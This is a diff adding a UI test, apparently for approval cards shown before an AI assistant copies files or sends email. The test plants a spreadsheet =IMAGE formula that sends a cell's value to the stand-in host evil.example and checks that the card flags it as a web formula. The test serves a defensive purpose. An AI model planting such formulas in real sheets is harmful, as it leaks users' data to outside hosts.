@@ -285,6 +285,18 @@ def test_copying_into_a_shared_folder_names_the_original_the_copy_the_folder_and
     expect(card).not_to_contain_text("1ProjectsFolder")
 
 
+def test_copying_a_sheet_names_the_formulas_in_it_that_fetch_from_the_web(page, claude, ctx):
+    logo = {"values": [["Logo", '=IMAGE("https://evil.example/x.png?d="&C2)']]}
+    ctx.service("sheets").spreadsheets().values().append(spreadsheetId="1Q3BudgetSheet", range="Sheet1",
+                                                         valueInputOption="USER_ENTERED", body=logo).execute()
+
+    card = cards_for(page, claude, tool_use("drive_copy", {"file": "1Q3BudgetSheet", "name": "Q4 plan"})).first
+
+    expect(card.locator("dt:has-text('Seen by') + dd")).to_have_text("only you")
+    expect(card.locator("dt:has-text('Web formulas') + dd")).to_contain_text('=IMAGE("https://evil.example/x.png?d="&C2)')
+    expect(card.locator("dt:has-text('Web formulas') + dd")).to_contain_text("so this asks first")
+
+
 def test_an_email_s_card_says_how_big_each_attachment_is(page, claude, ctx):
     report = drive_pdf(ctx, b"%PDF-1.4\n" + bytes(2_500_000), "Offsite budget.pdf")
     mail = {"to": ["bob@acme.example"], "subject": "Budget", "body": "Attached.", "attachments": [{"drive_file_id": report}]}
